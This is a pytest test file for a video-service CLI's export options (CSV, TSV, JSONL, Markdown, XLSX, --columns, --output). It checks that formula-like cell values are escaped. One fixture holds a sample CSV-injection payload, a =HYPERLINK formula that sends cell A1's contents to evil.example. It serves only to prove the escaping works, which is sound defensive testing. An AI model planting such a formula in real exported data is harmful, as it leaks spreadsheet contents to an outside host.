"""`--format`, `--columns` and `--output`: the same rows in every format, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import threading
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest

from pictory_async.testing import Answer, Render, World
from tests.cli._command import run, seen, started

if TYPE_CHECKING:
    from pictory_async.testing.server import ServerThread

pytest.importorskip("click", reason="the extra cli is not installed")
pytest.importorskip("rich", reason="the extra cli is not installed")
from pictory_async.cli._exit_codes import CommandError
from pictory_async.cli._writers import Title, Workbook, as_cell, guarded

pytestmark = pytest.mark.usefixtures("server")

EVIL = '=HYPERLINK("http://evil.example?"&A1,"click")'
LIST = {
    "projects": "id,name,source,schema,saved (UTC)",
    "templates": "id,name,language,state",
    "templates --details": "id,name,language,state,schema,scenes,variables",
    "jobs": "id,status,progress (%),result",
}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def world() -> World:
    """An account with names that somebody made up to be run by a spreadsheet."""
    world = World(media_base="self")
    world.add_project(Render(-100.0, duration=10.0), name=EVIL, project_id="P1")
    world.add_project(earlier_video=-60.0, name='A "quoted", | name', project_id="P2")
    world.add_template("Hi {{Name}} {{Who}}", template_id="T1", name="+1", variables={"Name": "-you", "Age": 7})
    world.add_template("Hi {{Other}}", template_id="T2", name="Two", variables={"Other": "=x"})
    return world


def sheet_of(data: bytes) -> list[list[Any]]:
    """The cells of a workbook's only sheet: text as ``str``, and numbers as ``float``."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        root = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    found: list[list[Any]] = []
    for row in root.iter(f"{MAIN}row"):
        cells: list[Any] = []
        for cell in row.iter(f"{MAIN}c"):
            assert not [*cell.iter(f"{MAIN}f")], "a formula"
            text = [part.text or "" for part in cell.iter(f"{MAIN}t")]
            cells.append("".join(text) if cell.get("t") == "inlineStr" else float(cell.findtext(f"{MAIN}v") or "nan"))
        found.append(cells)
    return found


def plain(text: str) -> str:
    """What a terminal shows, without colours."""
    return re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", text)


def rows(text: str) -> list[list[str]]:
    return [*csv.reader(io.StringIO(text, newline=""))]


@pytest.mark.parametrize("command", LIST)
def test_lists_in_csv(command: str) -> None:
    """Each list has a line of heads in CSV, with units and the time zone, and the line ends of RFC 4180."""
    found = run(*command.split(), "--format", "csv")
    head, *lines = rows(found.stdout_bytes.decode())
    assert (0, LIST[command].split(",")) == (found.exit_code, head)
    assert lines
    assert {len(head)} == {len(line) for line in lines}
    assert found.stdout_bytes.count(b"\r\n") == found.stdout_bytes.count(b"\n") == len(lines) + 1


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    """What begins like a formula is text in CSV and in a workbook; lines with tabs and JSON have it as it is."""
    pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
    names = [line[1] for line in rows(run("projects", "--format", "csv").stdout)[1:]]
    assert ["'" + EVIL, 'A "quoted", | name'] == sorted(names)
    assert 0 == run("projects", "--output", str(tmp_path / "a.xlsx")).exit_code
    cells = sheet_of((tmp_path / "a.xlsx").read_bytes())
    assert ["id", "name", "source", "schema", "saved (UTC)"] == cells[0]
    assert EVIL in [row[1] for row in cells[1:]]
    assert all(isinstance(row[4], float) and row[4] > 46_000 for row in cells[1:])
    assert EVIL in [line.split("\t")[1] for line in run("projects").stdout.splitlines()]
    assert EVIL in [json.loads(line)["name"] for line in run("projects", "--format", "jsonl").stdout.splitlines()]


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_all_beginnings_of_formulas(sign: str) -> None:
    """Every beginning that OWASP names is guarded, also after spaces; what is no formula stays as it is."""
    assert f"'{sign}1" == guarded(f"{sign}1")
    assert ("a=1", "'", "", "1-2") == tuple(map(guarded, ("a=1", "'", "", "1-2")))


def test_markdown() -> None:
    """A table in Markdown has its signs escaped, and links that stay links."""
    lines = run("projects", "--format", "md", "--columns", "name,id").stdout.splitlines()
    assert ["| name | id |", "| --- | --- |"] == lines[:2]
    assert r'| A "quoted", \| name | P2 |' in lines
    (link,) = re.findall(r"\| (<http://127.0.0.1:[^ ]+>) \|", run("share", "P2", "--format", "md").stdout)
    assert "\\" not in link


def test_a_chosen_table() -> None:
    """A table can be chosen for a pipe, and columns for a terminal and a pipe."""
    text = run("projects", "--format", "table").stdout
    assert re.search(r"(?m)^id +name +source +schema +saved \(UTC\)", text)
    assert "─" in text
    assert sorted(["P1", "P2"]) == sorted(run("projects", "--columns", "id").stdout.split())
    text = plain(seen("projects", "--columns", "saved, id ,saved"))
    assert re.search(r"saved \(UTC\) +id\s*\r?\n", text)


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ("projects --columns id,nope", "There is no column 'nope'. Choose among: id, name, source, schema, saved."),
        ("templates --columns scenes", "There is no column 'scenes'. Choose among: id, name, language, state."),
        (
            "wait P1 --columns x",
            "Choose among: id, status, seconds, name, job, detail, share, generated, path, outdated.",
        ),
        ("share P1 --columns x", "Choose among: project, link, name, generated, outdated."),
        ("variables T1 --columns x", "Choose among: template, variable, default, state, places."),
        ("jobs --columns ,", "--columns names no column. Choose among: id, status, progress, result."),
        ("projects --json --format csv", "Choose one of --json and --format."),
        ("projects --json --columns id", "JSON documents have no columns"),
        ("projects --format csv --output x.xlsx", "The name x.xlsx promises another format than csv."),
        ("projects --output x.pdf", "The name x.pdf promises no table. End it with .tsv, .csv, .jsonl, .md, .xlsx or"),
        ("wait P1 --output x.json", "The name x.json promises no table."),
        ("share P1 --output x.HTML", "The name x.HTML promises no table."),
        ("sync videos --output x.doc", "The name x.doc promises no table."),
        ("projects --output no/such/place.csv", "Cannot write no/such/place.csv."),
        ("variables", "Give either ids, or --all or --name."),
        ("variables T1 --all", "Give either ids, or --all or --name."),
    ],
)
def test_before_any_request(world: World, arguments: str, says: str) -> None:
    """What cannot be printed is one sentence, and no request is sent."""
    found = run(*arguments.split())
    assert (2, "", 0) == (found.exit_code, found.stdout, len(world.log))
    assert says in " ".join(found.stderr.split())


def test_a_workbook_is_not_for_a_terminal() -> None:
    """A terminal cannot show a workbook."""
    pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
    assert "name a file with --output" in " ".join(seen("projects", "--format", "xlsx", code=2).split())


def test_without_the_extra(world: World, tmp_path: Path) -> None:
    """Without the extra, the sentence says what to install."""
    (tmp_path / "xlsxwriter.py").write_text("raise ImportError")
    path = os.pathsep.join([str(tmp_path), os.environ.get("PYTHONPATH", "")])
    with started("projects", "--output", "x.xlsx", env={**os.environ, "PYTHONPATH": path}) as process:
        out, err = process.communicate()
    assert (2, "", 0) == (process.returncode, out, len(world.log))
    assert 'pip install "pictory-async[xlsx]"' in err


def test_a_workbook_in_a_pipe() -> None:
    """A workbook can be redirected."""
    pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
    found = run("projects", "--format", "xlsx", "--columns", "id")
    assert [["id"], ["P1"], ["P2"]] == sorted(sheet_of(found.stdout_bytes), key=lambda row: (row[0] != "id", row[0]))


class TestNothing:
    """An account with nothing in it."""

    @pytest.fixture
    def world(self) -> World:
        return World()

    def test_a_list(self) -> None:
        """A list without entries is a head without rows."""
        pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
        assert "id,name,source,schema,saved (UTC)\r\n" == run("projects", "--format", "csv").stdout_bytes.decode()
        assert [["id", "name"]] == sheet_of(run("projects", "--format", "xlsx", "--columns", "id,name").stdout_bytes)
        assert 2 == run("projects", "--format", "md").stdout.count("\n")
        assert "" == run("projects").stdout

    def test_variables(self) -> None:
        """All templates of an account without any are none."""
        found = run("variables", "--all")
        assert (0, "") == (found.exit_code, found.stdout)


class TestFiles:
    """`--output`."""

    def test_a_mark_for_excel(self, tmp_path: Path) -> None:
        """CSV in a file begins with a byte order mark, for Excel; in a pipe, for other programs, it does not."""
        path = tmp_path / "a.csv"
        assert (0, "") == ((found := run("projects", "--output", str(path))).exit_code, found.stdout)
        printed = run("projects", "--format", "csv").stdout_bytes
        assert b"\xef\xbb\xbf" + printed == path.read_bytes()
        assert printed == run("projects", "--format", "csv", "--output", "-").stdout_bytes

    @pytest.mark.parametrize(
        ("name", "begins"), [("a.md", "| id"), ("a.jsonl", '{"'), ("a.tsv", "P"), ("a.txt", "P"), ("a", "P")]
    )
    def test_the_ending_chooses_the_format(self, tmp_path: Path, name: str, begins: str) -> None:
        """The ending of the name chooses the format, and other names get lines with tabs."""
        run("projects", "--output", str(tmp_path / name))
        assert (tmp_path / name).read_text(encoding="utf-8").startswith(begins)
        assert [name] == [path.name for path in tmp_path.iterdir()]

    def test_a_chosen_format_has_any_name(self, tmp_path: Path) -> None:
        """Who chooses a format may call the file as they like, except by the ending of another table."""
        assert 0 == run("projects", "--format", "csv", "--output", str(tmp_path / "a.dat")).exit_code
        assert 0 == run("projects", "--json", "--output", str(tmp_path / "a.json")).exit_code

    def test_whole_or_not_there(self, world: World, server: ServerThread, tmp_path: Path) -> None:
        """A list that is cut off replaces nothing, and leaves nothing behind."""
        path = tmp_path / "a.csv"
        path.write_text("old")
        world.page_size = 1
        replies = iter([None, Answer(403, {"content-type": "application/json"}, b'{"message": "No"}')])
        server.simulator.faults = lambda *_: next(replies)
        found = run("projects", "--output", str(path))
        assert (77, "old", f"Not written: {path}") == (found.exit_code, path.read_text(), found.stderr.splitlines()[0])
        assert ["a.csv"] == [one.name for one in tmp_path.iterdir()]

    def test_permissions_and_links_stay(self, tmp_path: Path) -> None:
        """A replaced file keeps its permissions, and a link to it stays a link."""
        path, link = tmp_path / "a.csv", tmp_path / "link.csv"
        path.write_text("old")
        path.chmod(0o640)
        link.symlink_to(path)
        assert 0 == run("projects", "--output", str(link)).exit_code
        assert (True, 0o640) == (link.is_symlink(), path.stat().st_mode & 0o777)
        assert path.read_bytes().startswith(b"\xef\xbb\xbfid,")

    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
    def test_a_pipe_is_written_into(self, tmp_path: Path) -> None:
        """A pipe stays a pipe."""
        pipe = tmp_path / "pipe"
        os.mkfifo(pipe)
        found: list[str] = []
        reader = threading.Thread(target=lambda: found.append(pipe.read_text(encoding="utf-8")))
        reader.start()
        assert 0 == run("projects", "--columns", "id", "--output", str(pipe)).exit_code
        reader.join()
        assert ["P1", "P2"] == sorted(found[0].split())
        assert pipe.is_fifo()

    @pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no /dev/full")
    def test_a_full_disk(self) -> None:
        """A disk that is full is one sentence, and names the file."""
        found = run("projects", "--output", "/dev/full")
        assert (1, "Error: Cannot write /dev/full: No space left on device.\n") == (found.exit_code, found.stderr)


class TestSheets:
    """`pictory variables --sheet`."""

    def test_a_row_for_each_template(self) -> None:
        """Each template is a row, and each variable a column with the default, or nothing to be filled in."""
        found = run("variables", "--all", "--sheet", "--format", "csv")
        assert [
            ["template", "name", "Who", "Name", "Age", "Other"],
            ["T1", "'+1", "", "'-you", "7", ""],
            ["T2", "Two", "", "", "", "'=x"],
        ] == rows(found.stdout)

    def test_other_formats(self) -> None:
        """Lines with tabs have a head here, JSON has the variables as an object, and columns can be chosen or new."""
        assert "template\tname\tWho\tName\tAge\nT1\t+1\t\t-you\t7\n" == run("variables", "T1", "--sheet").stdout
        (line,) = run("variables", "T1", "--sheet", "--json").stdout.splitlines()
        assert {"template_id": "T1", "name": "+1", "variables": {"Who": None, "Name": "-you", "Age": 7}} == json.loads(
            line
        )
        chosen = run("variables", "T1", "T2", "--sheet", "--columns", "Name,Customer")
        assert "template\tname\tName\tCustomer\nT1\t+1\t-you\t\nT2\tTwo\t\t\n" == chosen.stdout
        assert "Customer" not in seen("variables", "T1", "--sheet")

    def test_what_cannot_be_fetched(self) -> None:
        """A template that cannot be fetched is reported, and the others have rows."""
        found = run("variables", "nope", "T2", "--sheet")
        assert (1, "template\tname\tOther\nT2\tTwo\t=x\n") == (found.exit_code, found.stdout)
        assert "'nope'" in found.stderr

    def test_numbers_in_a_workbook(self) -> None:
        """Numbers are numbers in a workbook."""
        pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
        found = run("variables", "T1", "--sheet", "--format", "xlsx")
        assert ["T1", "+1", "-you", 7.0] == sheet_of(found.stdout_bytes)[1]


def test_workbooks_that_are_not_written(tmp_path: Path) -> None:
    """A workbook without any row is not written if the command failed, nor one with too many columns."""
    pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
    Workbook([], "rows").close(complete=False)
    book = Workbook([Title("x")] * 16_385, "rows")
    with pytest.raises(CommandError, match="16,384 columns"):
        book.close(complete=True)


def test_values_of_all_kinds(tmp_path: Path) -> None:
    """Whatever a value is, it becomes one cell: lines are joined, and what is no number is text."""
    pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
    assert ("yes", "a b", "0.5", "") == tuple(map(as_cell, (True, "a\nb", 0.5, None)))


def test_columns_of_shares() -> None:
    """Links can have the names and the dates beside them, also a single one."""
    assert "P2\t2025-12-31 23:59:00\n" == run("share", "P2", "--columns", "project,generated").stdout
    head, line = rows(run("share", "P2", "--format", "csv").stdout)
    assert (["project", "link", "name", "generated (UTC)", "outdated"], 'A "quoted", | name') == (head, line[2])


def test_downloads(tmp_path: Path) -> None:
    """Downloads are a row for each file, with the path and the error in columns of their own."""
    found = run("download", "P2", "--dir", str(tmp_path), "--kind", "srt", "--format", "csv")
    head, line = rows(found.stdout)
    assert ["status", "project", "kind", "bytes", "path", "name", "outdated", "error"] == head
    assert ["written", "P2", "srt", "2000"] == line[:4]
    assert Path(line[4]).is_file()
    assert ['A "quoted", | name', "no", ""] == line[5:]
